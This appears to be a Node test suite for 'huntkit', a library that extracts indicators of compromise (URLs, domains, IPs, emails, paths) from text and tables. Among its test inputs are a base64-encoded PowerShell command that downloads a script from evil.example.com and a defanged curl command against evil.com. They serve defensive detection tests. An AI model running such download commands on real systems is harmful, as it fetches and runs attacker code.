// IoC extraction through the built package in Node: exact matches, UTF-16 offsets, tables
// (Arrow and rows), custom types, refang/defang, and clear errors.
import { test } from "node:test";
import assert from "node:assert/strict";
import { tableFromArrays, tableFromIPC, tableToIPC } from "apache-arrow";

import { IocExtractor, extractIocs, extractIocsFromTable, refang, defang } from "huntkit";

test("extractIocs returns refanged values, originals and UTF-16 offsets", () => {
  const text = "ça → hxxps://évil[.]example[.]com/ü?q=1 from 10.0.0.1 😀 user[at]evil.example.com";
  const found = extractIocs(text);
  assert.deepEqual(
    found.map((m) => [m.type, m.value, m.defanged]),
    [
      ["url", "https://évil.example.com/ü?q=1", true],
      ["dns", "évil.example.com", true],
      ["ipv4", "10.0.0.1", false],
      ["email", "user@evil.example.com", true],
      ["dns", "evil.example.com", false],
    ],
  );
  for (const m of found) assert.equal(text.slice(m.start, m.end), m.original);
  assert.equal(found[0].original, "hxxps://évil[.]example[.]com/ü?q=1");
  assert.equal(found[0].start, 5);
  assert.equal(found[2].start, text.indexOf("10.0.0.1"));
  assert.equal(found[3].original, "user[at]evil.example.com");
  assert.deepEqual(found[0].decoded, []);
  // Chains are shared and frozen (one array per distinct chain, not per match).
  assert.ok(Object.isFrozen(found[0].decoded));
  assert.equal(found[0].decoded, found[2].decoded);
  // Rewritten values cross as one string: a surrogate pair in one does not shift the next.
  assert.deepEqual(
    extractIocs("hxxp://a.example[.]com/😀é hxxp://b[.]example.com/x").map((m) => m.value),
    ["http://a.example.com/😀é", "a.example.com", "http://b.example.com/x", "b.example.com"],
  );
});

test("long texts (handed over as UTF-8 bytes) keep UTF-16 offsets", () => {
  const line = "ça → hxxps://évil[.]example[.]com/ü?q=1 😀 from 10.0.0.1\n";
  const text = line.repeat(200); // > 4096 UTF-16 units
  const found = extractIocs(text);
  assert.equal(found.length, 200 * 3);
  for (const m of found) assert.equal(text.slice(m.start, m.end), m.original);
  assert.deepEqual(found.slice(-3).map((m) => m.value), ["https://évil.example.com/ü?q=1", "évil.example.com", "10.0.0.1"]);
  // ASCII first, then wider characters past the first 1-byte-per-unit guess; then a shorter
  // text through the same (reused, longer) buffer: nothing of the first one is read.
  const late = "x".repeat(5000) + " 10.0.0.2 " + "😀é".repeat(3000) + " 10.0.0.3";
  assert.deepEqual(
    extractIocs(late).map((m) => [m.value, late.slice(m.start, m.end)]),
    [["10.0.0.2", "10.0.0.2"], ["10.0.0.3", "10.0.0.3"]],
  );
  const short = "y".repeat(4200) + " 10.0.0.4";
  assert.deepEqual(extractIocs(short).map((m) => [m.value, m.start]), [["10.0.0.4", 4201]]);
});

test("decoded matches name their decoding chain", () => {
  // PowerShell -EncodedCommand of "iwr http://evil.example.com/a.ps1".
  const blob = "aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
  const text = `powershell -enc ${blob}`;
  const url = extractIocs(text).find((m) => m.type === "url");
  assert.deepEqual(
    [url.value, url.original, url.start, url.decoded],
    ["http://evil.example.com/a.ps1", blob, 16, ["base64-utf16le"]],
  );
  assert.equal(extractIocs(text, { decode: false }).length, 0);
});

test("options: types, ignoreTlds, excludePrivate, refang, schemelessUrls", () => {
  const text = String.raw`10.0.0.1 8.8.8.8 corp.local C:\Windows\x.exe evil[.]com/a`;
  const kinds = (opts) => extractIocs(text, opts).map((m) => `${m.type}:${m.value}`);
  assert.deepEqual(kinds({ types: ["ipv4"] }), ["ipv4:10.0.0.1", "ipv4:8.8.8.8"]);
  assert.deepEqual(kinds({ types: "md5", excludePrivate: true }), []);
  assert.deepEqual(kinds({ types: ["dns"], ignoreTlds: true }), ["dns:corp.local", "dns:evil.com"]);
  assert.deepEqual(kinds({ types: ["dns"], refang: false }), []);
  assert.deepEqual(kinds({ types: ["ipv4"], excludePrivate: true }), ["ipv4:8.8.8.8"]);
  assert.deepEqual(kinds({ types: ["url"], schemelessUrls: true }), ["url:evil.com/a"]);
  assert.deepEqual(kinds({ types: ["windows_path"] }), [String.raw`windows_path:C:\Windows\x.exe`]);
});

test("extractIocsFromTable: MSTICPy's columns plus Column/Start/End, as Arrow and rows", () => {
  const table = tableFromArrays({
    CommandLine: ["curl hxxp://evil[.]com/a", null, "ping 8.8.8.8", "é 10.0.0.1"],
    Host: ["ws1.corp.example.com", "ws2", "ws3", "ws4"],
  });
  const out = extractIocsFromTable(tableToIPC(table, "stream"), { columns: ["CommandLine", "Host"] });
  assert.equal(out.numRows, 5);
  const rows = out.toRows();
  assert.deepEqual(
    rows.map((r) => [r.IoCType, r.Observable, r.SourceIndex, r.Column, r.Start, r.End, r.Defanged, r.Decoded]),
    [
      ["url", "http://evil.com/a", 0n, "CommandLine", 5n, 24n, true, null],
      ["dns", "evil.com", 0n, "CommandLine", 12n, 22n, true, null],
      ["dns", "ws1.corp.example.com", 0n, "Host", 0n, 20n, false, null],
      ["ipv4", "8.8.8.8", 2n, "CommandLine", 5n, 12n, false, null],
      ["ipv4", "10.0.0.1", 3n, "CommandLine", 2n, 10n, false, null],
    ],
  );
  assert.equal(rows[0].Input, "curl hxxp://evil[.]com/a");
  const arrow = tableFromIPC(out.toArrow());
  assert.deepEqual(arrow.schema.fields.map((f) => f.name), [
    "IoCType", "Observable", "SourceIndex", "Input", "Column", "Start", "End", "Defanged", "Decoded",
  ]);
  assert.equal(arrow.getChild("Observable").get(3), "8.8.8.8");
  // Plain row objects in, paths off by default for tables.
  const fromRows = extractIocsFromTable([{ cmd: String.raw`C:\x\y.exe 1.2.3.4` }], { columns: "cmd" });
  assert.deepEqual(fromRows.toRows().map((r) => r.IoCType), ["ipv4"]);
  const withPaths = extractIocsFromTable([{ cmd: String.raw`C:\x\y.exe` }], { columns: "cmd", includePaths: true });
  assert.deepEqual(withPaths.toRows().map((r) => r.Observable), [String.raw`C:\x\y.exe`]);
});

test("custom types belong to one extractor", () => {
  const x = new IocExtractor();
  x.addIocType("ticket", String.raw`(?i)\bINC-(?P<id>\d{4,})\b`, { group: "id", priority: 0 });
  assert.ok(x.types.includes("ticket"));
  assert.deepEqual(
    x.extract("see inc-12345 and 10.0.0.1", { types: ["ticket"] }).map((m) => [m.type, m.value, m.start, m.end]),
    [["ticket", "12345", 8, 13]],
  );
  assert.ok(!new IocExtractor().types.includes("ticket"));
  assert.equal(extractIocs("inc-12345").length, 0);
  x.free();
});

test("a newer Public Suffix List per extractor", () => {
  const x = new IocExtractor();
  assert.equal(x.extract("host.corp").length, 0);
  assert.equal(x.setPublicSuffixList("// ===BEGIN ICANN DOMAINS===\ncom\ncorp\n// ===END ICANN DOMAINS===\nexample.org\n"), 2);
  assert.deepEqual(x.extract("host.corp x.example.org").map((m) => m.value), ["host.corp"]);
  assert.throws(() => x.setPublicSuffixList(""), /no rule found/);
  assert.equal(extractIocs("host.corp").length, 0);
});

test("refang and defang", () => {
  assert.equal(refang("hxxps[:]//evil[.]com[/]a user(at)evil{.}com"), "https://evil.com/a user@evil.com");
  assert.equal(defang("http://evil.com/a.php", "url"), "hxxp://evil[.]com/a.php");
  assert.equal(defang("a@evil.com", "email"), "a[AT]evil[.]com");
  assert.equal(defang("10.0.0.1"), "10[.]0[.]0[.]1");
});

test("bad input is a clear error", () => {
  const err = (fn) => {
    try {
      fn();
    } catch (e) {
      return [e.name, e.code, e.message];
    }
    assert.fail("no error");
  };
  assert.deepEqual(err(() => extractIocs(42)), ["HuntkitError", "invalid-option", "option `text`: expected a string, got number"]);
  assert.deepEqual(err(() => extractIocs("x", { tpyes: ["ipv4"] }))[2], "option `options`: unknown option `tpyes`; did you mean `types`?");
  assert.deepEqual(err(() => extractIocs("x", { types: ["ipv44"] }))[2], "option `types`: unknown IoC type `ipv44`; did you mean `ipv4`?");
  assert.match(err(() => extractIocsFromTable([{ a: "x" }], { columns: ["b"] }))[2], /`b`/);
  assert.match(err(() => extractIocsFromTable([{ a: "x" }]))[2], /columns/);
  assert.match(err(() => new IocExtractor().addIocType("bad", "(unclosed"))[2], /the pattern of IoC type `bad` is not a valid regex/);
  assert.match(err(() => new IocExtractor().addIocType("dns", "x"))[2], /built-in/);
  assert.match(err(() => defang("x", "nope"))[2], /unknown IoC type `nope`/);
});

test("a 1 MB line of pathological text finishes", () => {
  for (const unit of ["a.", "1.", "[.]", "http://", "1:", "a@"]) {
    const text = unit.repeat(Math.floor(1_000_000 / unit.length));
    const found = extractIocs(text);
    for (const m of found.slice(0, 100)) assert.equal(text.slice(m.start, m.end), m.original);
  }
});
